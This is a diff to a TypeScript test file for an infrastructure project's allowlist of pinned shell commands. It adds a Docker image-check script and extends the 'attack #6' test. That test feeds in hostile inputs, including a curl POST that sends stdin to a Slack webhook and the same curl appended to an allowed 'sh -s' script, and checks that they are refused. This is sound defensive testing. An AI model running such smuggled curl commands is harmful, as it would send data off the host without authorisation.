@@ -7,6 +7,7 @@
  * command, or a new use of an old one, is then a change to this list, made and reviewed on purpose.
  */
 import { expect } from "chai";
+import { renderAppImageCheckScript } from "../components/preflight/appImageCheck";
 import { BOOTSTRAP_MARKER, HOST_RULES_PATH } from "../components/host/hostFiles";
 import { renderPidsLimitScript } from "../components/host/pidsLimitScript";
 import { RUN_AS_ROOT } from "../components/host/sshHost";
@@ -43,6 +44,24 @@ function isPidsLimitScript(stdin: string | undefined): boolean {
     return stdin === renderPidsLimitScript(named[1]!, named[2]!, Number(limit[1]));
 }
 
+/**
+ * The FreshTrack image check, exactly as renderAppImageCheckScript makes it for the references, login and stack it
+ * names: only `docker image inspect` and `docker manifest inspect` of each reference (issue 17, friction 1).
+ */
+function isAppImageCheckScript(stdin: string | undefined): boolean {
+    const refs = /^APP_IMAGES="([^"]*)"$/m.exec(stdin ?? "");
+    const login = /^APP_IMAGES_LOGIN=(yes|no)$/m.exec(stdin ?? "");
+    const stack = /pulumi config set --stack (\S+) /.exec(stdin ?? "");
+    if (!refs || !login || !stack) return false;
+    const check = {
+        refs: refs[1]!.split(" "),
+        stack: stack[1]!,
+        target: "local" as const,
+        registryLogin: login[1] === "yes",
+    };
+    return stdin === renderAppImageCheckScript(check);
+}
+
 const PROGRAMS: readonly Program[] = [
     {
         create: `${NODE_SCRIPT} scripts/verify.ts --from-env`,
@@ -61,6 +80,12 @@ const PROGRAMS: readonly Program[] = [
         types: [LOCAL, REMOTE],
         stdin: isPidsLimitScript,
         why: "each service's pids limit (components/host/pidsLimit.ts), applied with `docker update` where its daemon runs",
+    },
+    {
+        create: "sh -s",
+        types: [LOCAL],
+        stdin: isAppImageCheckScript,
+        why: "the local target's FreshTrack image check (components/preflight/appImageCheck.ts) before any app image is pulled",
     },
     {
         create: "sh -s",
@@ -133,6 +158,12 @@ describe("commands: each runs a pinned program (attack #6; rung 1, mocks)", func
     it("refuses curl to Slack from the Announcement, and curl handed to a pinned shell on stdin (attack #6)", () => {
         const slack = "https://hooks.slack.com/services/T000/B000/attack";
         const pidsLimit = renderPidsLimitScript("freshtrack-dev", "backend", 512);
+        const images = renderAppImageCheckScript({
+            refs: ["ghcr.io/freshtrack/freshtrack-backend:1.4.2"],
+            stack: "dev",
+            target: "local",
+            registryLogin: false,
+        });
         expect(
             unpinned([
                 { type: LOCAL, name: "announcement-slack", inputs: { create: `curl -fsS -X POST ${slack} -d @-` } },
@@ -140,12 +171,19 @@ describe("commands: each runs a pinned program (attack #6; rung 1, mocks)", func
                 { type: REMOTE, name: "pids", inputs: { create: "sh -s", stdin: `${pidsLimit}curl ${slack}\n` } },
                 { type: LOCAL, name: "verify", inputs: { create: `${NODE_SCRIPT} scripts/verify.ts --from-env` } },
                 { type: LOCAL, name: "ok-pids", inputs: { create: "sh -s", stdin: pidsLimit } },
+                {
+                    type: LOCAL,
+                    name: "app-images-check",
+                    inputs: { create: "sh -s", stdin: `${images}curl ${slack}\n` },
+                },
+                { type: LOCAL, name: "ok-images", inputs: { create: "sh -s", stdin: images } },
                 { type: LOCAL, name: "gone", inputs: { create: "sh -s", stdin: pidsLimit, delete: "curl x" } },
             ]),
         ).to.deep.equal([
             `${LOCAL} announcement-slack: create is not a pinned program (or not with the stdin it reads)`,
             `${LOCAL} backend-pids-limit: create is not a pinned program (or not with the stdin it reads)`,
             `${REMOTE} pids: create is not a pinned program (or not with the stdin it reads)`,
+            `${LOCAL} app-images-check: create is not a pinned program (or not with the stdin it reads)`,
             `${LOCAL} gone: runs a program on delete, none is pinned`,
         ]);
     });
